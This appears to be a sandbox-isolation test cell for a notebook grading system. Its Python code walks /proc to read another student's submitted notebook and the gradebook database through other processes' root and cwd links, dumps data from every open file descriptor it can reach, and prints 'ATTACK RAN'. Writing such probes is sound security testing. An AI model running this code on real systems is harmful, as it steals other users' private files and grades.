# ---
# about: goes through /proc to other roots, folders, files and memory
# stock: "not run: reads the memory of whatever process it can"
# ---

# %% mean
import glob
import os

found = []
for pid in glob.glob("/proc/[0-9]*"):
    for path in ("root@CANARY@/submitted/bob/lab/lab.ipynb", "cwd/../gradebook.db"):
        try:
            found.append(open(f"{pid}/{path}").read())
        except OSError as error:
            found.append(repr(error))
    for handle in glob.glob(f"{pid}/fd/*"):
        try:
            found.append((os.readlink(handle), open(handle, "rb", opener=lambda p, f: os.open(p, f | os.O_NONBLOCK)).read(4096)))
        except OSError as error:
            found.append(repr(error))
print("ATTACK RAN", len(found), [str(item) for item in found])
